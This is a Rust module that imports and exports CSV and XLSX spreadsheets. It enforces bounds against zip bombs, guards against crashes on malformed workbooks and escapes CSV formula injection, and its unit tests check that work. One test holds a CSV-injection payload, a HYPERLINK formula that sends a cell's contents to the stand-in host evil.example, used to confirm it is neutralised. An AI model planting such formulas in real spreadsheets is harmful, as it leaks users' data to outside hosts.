//! Spreadsheets in and out: CSV (`csv`) and XLSX (`calamine` to read,
//! `rust_xlsxwriter` to write), as a header row and rows of text cells.

use std::io::{Cursor, Read};
use std::time::{Duration, Instant};

use calamine::{DataRef, Reader, Xlsx};

pub const CSV: &str = "text/csv";
pub const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Deserialize, utoipa::ToSchema)]
#[serde(rename_all = "lowercase")]
#[schema(as = FileFormat)]
pub enum Format {
    Csv,
    Xlsx,
}

impl Format {
    /// The format a `Content-Type` names.
    pub fn of_mime(essence: &str) -> Option<Format> {
        match essence {
            CSV | "application/csv" => Some(Format::Csv),
            XLSX => Some(Format::Xlsx),
            _ => None,
        }
    }

    /// The format of a file sent without a type of its own: a workbook is
    /// a zip, and a zip starts `PK\x03\x04`; anything else is read as CSV.
    pub fn sniff(bytes: &[u8]) -> Format {
        if bytes.starts_with(b"PK\x03\x04") {
            Format::Xlsx
        } else {
            Format::Csv
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Format::Csv => "text/csv; charset=utf-8",
            Format::Xlsx => XLSX,
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Xlsx => "xlsx",
        }
    }
}

/// A spreadsheet file, as the description shows a request or response body.
#[derive(utoipa::ToSchema)]
#[schema(value_type = String, format = Binary)]
pub struct SpreadsheetFile(pub Vec<u8>);

/// One data row: its number as a spreadsheet shows it (the header is row
/// 1), and its cells as text (empty for a blank cell).
#[derive(Debug, Clone)]
pub struct Row {
    pub number: usize,
    pub cells: Vec<String>,
}

#[derive(Debug, Clone)]
pub struct Sheet {
    pub headers: Vec<String>,
    pub rows: Vec<Row>,
}

/// How much one file may make the service do. A file past any bound is
/// refused as soon as the bound is crossed, before the rest is read: the
/// declared sheet range is never allocated, and a workbook's parts are
/// inflated only up to their bounds.
#[derive(Debug, Clone, Copy)]
pub struct Bounds {
    /// Data rows (blank rows not counted), and the last row number a cell
    /// may sit on (the header's row plus this).
    pub rows: usize,
    /// Columns, counted from A.
    pub columns: usize,
    /// All of a workbook's parts, inflated.
    pub inflated_bytes: u64,
    /// The shared-strings part, inflated (its strings are held in memory).
    pub shared_strings_bytes: u64,
    /// Parts in a workbook.
    pub parts: usize,
    /// Time spent reading the file.
    pub time: Duration,
}

/// What an import reads at most: ten times the largest alliance's member
/// list, 64 columns (each import has fewer than 20), 64 MiB of XML.
pub const IMPORT_BOUNDS: Bounds = Bounds {
    rows: 20_000,
    columns: 64,
    inflated_bytes: 64 << 20,
    shared_strings_bytes: 16 << 20,
    parts: 1_000,
    time: Duration::from_millis(1_500),
};

/// Why a file was not read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ReadError {
    /// Not a CSV or workbook that can be read (400).
    Unreadable(String),
    /// Past one of the [`Bounds`] (413).
    TooLarge(String),
}

impl std::fmt::Display for ReadError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ReadError::Unreadable(m) | ReadError::TooLarge(m) => f.write_str(m),
        }
    }
}

/// Reads the first sheet of a workbook, or a CSV file (UTF-8, with or
/// without a byte-order mark), within `bounds`. Blank rows are skipped; a
/// file that cannot be read, or that crosses a bound, is described in the
/// error.
pub fn read(format: Format, bytes: &[u8], bounds: &Bounds) -> Result<Sheet, ReadError> {
    let mut lines = Lines::new(bounds);
    match format {
        Format::Csv => read_csv(bytes, &mut lines)?,
        // calamine panics on some malformed workbooks (a shared-string index
        // past the table, found by examples/fuzz_tabular.rs): such a file is
        // unreadable, not a crash.
        Format::Xlsx => std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            read_xlsx(bytes, &mut lines)
        }))
        .unwrap_or_else(|_| {
            Err(ReadError::Unreadable(
                "the workbook is malformed: a cell refers to something the file does not hold"
                    .into(),
            ))
        })?,
    }
    lines.finish()
}

/// The rows read so far, holding the bounds.
struct Lines<'b> {
    bounds: &'b Bounds,
    started: Instant,
    headers: Option<Vec<String>>,
    rows: Vec<Row>,
}

impl<'b> Lines<'b> {
    fn new(bounds: &'b Bounds) -> Self {
        Lines {
            bounds,
            started: Instant::now(),
            headers: None,
            rows: Vec::new(),
        }
    }

    fn in_time(&self) -> Result<(), ReadError> {
        if self.started.elapsed() > self.bounds.time {
            return Err(ReadError::TooLarge(format!(
                "the file takes longer than {} ms to read; split it",
                self.bounds.time.as_millis()
            )));
        }
        Ok(())
    }

    fn check_column(&self, column: usize) -> Result<(), ReadError> {
        if column >= self.bounds.columns {
            return Err(ReadError::TooLarge(format!(
                "the file has a cell in column {}; an import reads at most {} columns",
                column + 1,
                self.bounds.columns
            )));
        }
        Ok(())
    }

    fn too_many_rows(&self) -> ReadError {
        ReadError::TooLarge(format!(
            "the file has more than {} rows; an import takes at most {}, so split it",
            self.bounds.rows, self.bounds.rows
        ))
    }

    /// Takes one line: the first is the header row, the others data rows.
    fn push(&mut self, number: usize, cells: Vec<String>) -> Result<(), ReadError> {
        if self.headers.is_none() {
            self.headers = Some(cells.into_iter().map(|c| c.trim().to_owned()).collect());
            return Ok(());
        }
        if cells.iter().all(|c| c.trim().is_empty()) {
            return Ok(());
        }
        if self.rows.len() >= self.bounds.rows {
            return Err(self.too_many_rows());
        }
        self.rows.push(Row { number, cells });
        Ok(())
    }

    fn finish(self) -> Result<Sheet, ReadError> {
        let headers = self.headers.ok_or_else(|| {
            ReadError::Unreadable("the file is empty: the first row must name the columns".into())
        })?;
        Ok(Sheet {
            headers,
            rows: self.rows,
        })
    }
}

fn read_csv(bytes: &[u8], lines: &mut Lines<'_>) -> Result<(), ReadError> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes);
    let mut record = csv::StringRecord::new();
    for number in 1usize.. {
        let more = reader.read_record(&mut record).map_err(|e| {
            ReadError::Unreadable(match e.kind() {
                csv::ErrorKind::Utf8 { .. } => format!(
                    "row {number} is not UTF-8 text; save the file as \"CSV UTF-8\" or as .xlsx"
                ),
                _ => format!("row {number}: {e}"),
            })
        })?;
        if !more {
            break;
        }
        if record.len() > lines.bounds.columns {
            lines.check_column(record.len() - 1)?;
        }
        if number.is_multiple_of(1024) {
            lines.in_time()?;
        }
        lines.push(number, record.iter().map(str::to_owned).collect())?;
    }
    Ok(())
}

/// Inflates every part of a workbook into nothing, counting, so a part
/// that inflates past its bound is refused before calamine holds it.
fn check_parts(bytes: &[u8], lines: &Lines<'_>) -> Result<(), ReadError> {
    let unreadable = |e: zip::result::ZipError| {
        ReadError::Unreadable(format!("this is not an .xlsx workbook: {e}"))
    };
    let bounds = lines.bounds;
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).map_err(unreadable)?;
    if zip.len() > bounds.parts {
        return Err(ReadError::TooLarge(format!(
            "the workbook has {} parts; at most {} are read",
            zip.len(),
            bounds.parts
        )));
    }
    let mut total = 0u64;
    let mut buf = vec![0u8; 64 * 1024];
    for i in 0..zip.len() {
        let mut part = zip.by_index(i).map_err(unreadable)?;
        let shared = part.name().ends_with("sharedStrings.xml");
        let mut size = 0u64;
        loop {
            let n = part.read(&mut buf).map_err(|e| {
                ReadError::Unreadable(format!("a part of the workbook cannot be inflated: {e}"))
            })?;
            if n == 0 {
                break;
            }
            size += n as u64;
            total += n as u64;
            if shared && size > bounds.shared_strings_bytes {
                return Err(ReadError::TooLarge(format!(
                    "the workbook's shared strings inflate past {} MiB",
                    bounds.shared_strings_bytes >> 20
                )));
            }
            if total > bounds.inflated_bytes {
                return Err(ReadError::TooLarge(format!(
                    "the workbook inflates past {} MiB",
                    bounds.inflated_bytes >> 20
                )));
            }
            lines.in_time()?;
        }
    }
    Ok(())
}

fn read_xlsx(bytes: &[u8], lines: &mut Lines<'_>) -> Result<(), ReadError> {
    check_parts(bytes, lines)?;
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes))
        .map_err(|e| ReadError::Unreadable(format!("this is not an .xlsx workbook: {e}")))?;
    let first = book
        .sheet_names()
        .first()
        .cloned()
        .ok_or_else(|| ReadError::Unreadable("the workbook has no sheet".into()))?;
    let unreadable = |e: calamine::XlsxError| {
        ReadError::Unreadable(format!("the first sheet cannot be read: {e}"))
    };
    let mut cells = book.worksheet_cells_reader(&first).map_err(unreadable)?;
    // Cells arrive row by row; only cells with a value are kept, so a
    // declared or styled range costs nothing, and every row kept has one.
    let mut pending: Vec<(u32, Vec<String>)> = Vec::new();
    let mut seen = 0usize;
    while let Some(cell) = cells.next_cell().map_err(unreadable)? {
        seen += 1;
        if seen.is_multiple_of(4096) {
            lines.in_time()?;
        }
        let text = cell_text(cell.get_value());
        if text.is_empty() {
            continue;
        }
        let (row, column) = cell.get_position();
        lines.check_column(column as usize)?;
        match pending.last_mut() {
            Some((r, line)) if *r == row => set(line, column as usize, text),
            _ => {
                // The header and `rows` data rows.
                if pending.len() > lines.bounds.rows {
                    return Err(lines.too_many_rows());
                }
                let mut line = Vec::new();
                set(&mut line, column as usize, text);
                pending.push((row, line));
            }
        }
    }
    // A sheet written out of row order still reads in row order.
    pending.sort_by_key(|(row, _)| *row);
    let mut merged: Vec<(u32, Vec<String>)> = Vec::with_capacity(pending.len());
    for (row, line) in pending {
        match merged.last_mut() {
            Some((r, l)) if *r == row => {
                for (c, text) in line.into_iter().enumerate() {
                    if !text.is_empty() {
                        set(l, c, text);
                    }
                }
            }
            _ => merged.push((row, line)),
        }
    }
    for (row, line) in merged {
        // Row numbers as Excel shows them.
        lines.push(row as usize + 1, line)?;
    }
    Ok(())
}

fn set(line: &mut Vec<String>, column: usize, text: String) {
    if line.len() <= column {
        line.resize(column + 1, String::new());
    }
    line[column] = text;
}

/// A cell as the text a user typed: whole numbers without `.0`, dates as
/// `YYYY-MM-DD`.
fn cell_text(cell: &DataRef<'_>) -> String {
    match cell {
        DataRef::Empty => String::new(),
        DataRef::String(s) => s.clone(),
        DataRef::SharedString(s) => (*s).to_owned(),
        DataRef::Int(i) => i.to_string(),
        DataRef::Float(f) if f.fract() == 0.0 && f.abs() < 1e15 => format!("{}", *f as i64),
        DataRef::Float(f) => f.to_string(),
        DataRef::Bool(b) => b.to_string(),
        DataRef::DateTime(d) => match d.as_datetime() {
            Some(t) if t.time() == chrono::NaiveTime::MIN => t.date().to_string(),
            Some(t) => t.to_string(),
            None => d.as_f64().to_string(),
        },
        DataRef::DateTimeIso(s) | DataRef::DurationIso(s) => s.clone(),
        DataRef::Error(e) => format!("#ERROR {e:?}"),
    }
}

/// A CSV cell that a spreadsheet will not run as a formula (OWASP's CSV
/// injection advice): text beginning with `=`, `+`, `-`, `@`, a tab or a
/// carriage return gets a leading `'`, which Excel and LibreOffice show as
/// text and do not display.
fn inert(value: &str) -> std::borrow::Cow<'_, str> {
    match value.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{value}").into(),
        _ => value.into(),
    }
}

/// The most characters a workbook cell holds (Excel's limit).
pub const MAX_CELL_CHARS: usize = 32_767;

/// A value cut to fit one cell, marked with `…` where it was cut.
fn fit_cell(value: &str) -> std::borrow::Cow<'_, str> {
    match value.char_indices().nth(MAX_CELL_CHARS - 1) {
        None => value.into(),
        Some((end, _)) if value[end..].chars().count() == 1 => value.into(),
        Some((end, _)) => format!("{}…", &value[..end]).into(),
    }
}

/// A table to write: a sheet name, headers, rows.
pub struct Table<'a> {
    pub sheet: &'a str,
    pub headers: Vec<String>,
    pub rows: Vec<Vec<String>>,
    /// Columns written as numbers in a workbook (so sums work), by index.
    pub numeric: Vec<usize>,
}

/// A workbook of several tables, one sheet each.
pub fn workbook(tables: &[Table<'_>]) -> Result<Vec<u8>, String> {
    let mut book = rust_xlsxwriter::Workbook::new();
    for t in tables {
        t.add_sheet(&mut book).map_err(|e| e.to_string())?;
    }
    book.save_to_buffer().map_err(|e| e.to_string())
}

impl Table<'_> {
    pub fn write(&self, format: Format) -> Result<Vec<u8>, String> {
        match format {
            Format::Csv => self.csv(),
            Format::Xlsx => self.xlsx(),
        }
    }

    /// UTF-8 with a byte-order mark, so Excel opens Chinese text correctly.
    /// Text a spreadsheet would run as a formula is written inert.
    fn csv(&self) -> Result<Vec<u8>, String> {
        let mut out = b"\xEF\xBB\xBF".to_vec();
        {
            let mut w = csv::Writer::from_writer(&mut out);
            w.write_record(self.headers.iter().map(|h| inert(h).into_owned()))
                .map_err(|e| e.to_string())?;
            for row in &self.rows {
                let cells = row.iter().enumerate().map(|(c, value)| {
                    if self.numeric.contains(&c) && value.parse::<f64>().is_ok() {
                        value.clone()
                    } else {
                        inert(value).into_owned()
                    }
                });
                w.write_record(cells).map_err(|e| e.to_string())?;
            }
            w.flush().map_err(|e| e.to_string())?;
        }
        Ok(out)
    }

    fn xlsx(&self) -> Result<Vec<u8>, String> {
        // Cells are written as strings (never formulas) and cut to what a
        // cell holds, so no value can fail the workbook.
        workbook(std::slice::from_ref(self))
    }

    fn add_sheet(
        &self,
        book: &mut rust_xlsxwriter::Workbook,
    ) -> Result<(), rust_xlsxwriter::XlsxError> {
        use rust_xlsxwriter::Format as CellFormat;
        let sheet = book.add_worksheet();
        sheet.set_name(self.sheet)?;
        let bold = CellFormat::new().set_bold();
        for (c, h) in self.headers.iter().enumerate() {
            sheet.write_string_with_format(0, c as u16, h, &bold)?;
            sheet.set_column_width(c as u16, 18)?;
        }
        for (r, row) in self.rows.iter().enumerate() {
            for (c, value) in row.iter().enumerate() {
                let (r, col) = ((r + 1) as u32, c as u16);
                match value.parse::<f64>() {
                    _ if value.is_empty() => {}
                    Ok(n) if self.numeric.contains(&c) => {
                        sheet.write_number(r, col, n)?;
                    }
                    _ => {
                        sheet.write_string(r, col, fit_cell(value))?;
                    }
                }
            }
        }
        sheet.set_freeze_panes(1, 0)?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> Table<'static> {
        Table {
            sheet: "成员",
            headers: vec!["名称".into(), "加入日期".into()],
            rows: vec![
                vec!["南开大学".into(), "2023-05-08".into()],
                vec!["天津港（集团）有限公司, \"港\"".into(), String::new()],
            ],
            numeric: vec![],
        }
    }

    #[test]
    fn both_formats_read_back_what_was_written() {
        for format in [Format::Csv, Format::Xlsx] {
            let bytes = table().write(format).unwrap();
            let sheet = read(format, &bytes, &IMPORT_BOUNDS).unwrap();
            assert_eq!(sheet.headers, vec!["名称", "加入日期"], "{format:?}");
            assert_eq!(sheet.rows.len(), 2);
            assert_eq!(sheet.rows[0].number, 2);
            assert_eq!(sheet.rows[0].cells[0], "南开大学");
            assert_eq!(sheet.rows[1].cells[0], "天津港（集团）有限公司, \"港\"");
        }
    }

    #[test]
    fn formulas_are_written_inert_and_long_text_fits_a_cell() {
        let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
        let t = Table {
            sheet: "s",
            headers: vec!["name".into(), "n".into()],
            rows: vec![
                vec![evil.into(), "-5".into()],
                vec!["@SUM(1)".into(), "3".into()],
                vec!["x".repeat(40_000), "1".into()],
            ],
            numeric: vec![1],
        };
        let csv = String::from_utf8(t.write(Format::Csv).unwrap()).unwrap();
        assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
        assert!(csv.contains("'@SUM(1),3"), "{csv}");
        assert!(
            csv.contains(",-5\n"),
            "a negative number stays a number: {csv}"
        );
        let back = read(
            Format::Xlsx,
            &t.write(Format::Xlsx).unwrap(),
            &IMPORT_BOUNDS,
        )
        .unwrap();
        assert_eq!(
            back.rows[0].cells[0], evil,
            "the workbook keeps the text as text"
        );
        assert_eq!(back.rows[2].cells[0].chars().count(), MAX_CELL_CHARS);
        assert!(back.rows[2].cells[0].ends_with('…'));
    }

    #[test]
    fn a_workbook_that_makes_calamine_panic_is_unreadable() {
        let book = include_bytes!("../tests/fixtures/xlsx/shared-string-out-of-range.xlsx");
        let e = read(Format::Xlsx, book, &IMPORT_BOUNDS).unwrap_err();
        assert!(matches!(e, ReadError::Unreadable(_)), "{e}");
    }

    #[test]
    fn unreadable_files_say_why() {
        assert!(
            read(Format::Csv, b"name\n\xff\xfe\n", &IMPORT_BOUNDS)
                .unwrap_err()
                .to_string()
                .contains("UTF-8")
        );
        assert!(
            read(Format::Xlsx, b"not a zip", &IMPORT_BOUNDS)
                .unwrap_err()
                .to_string()
                .contains(".xlsx")
        );
        assert!(
            read(Format::Csv, b"", &IMPORT_BOUNDS)
                .unwrap_err()
                .to_string()
                .contains("empty")
        );
    }
}
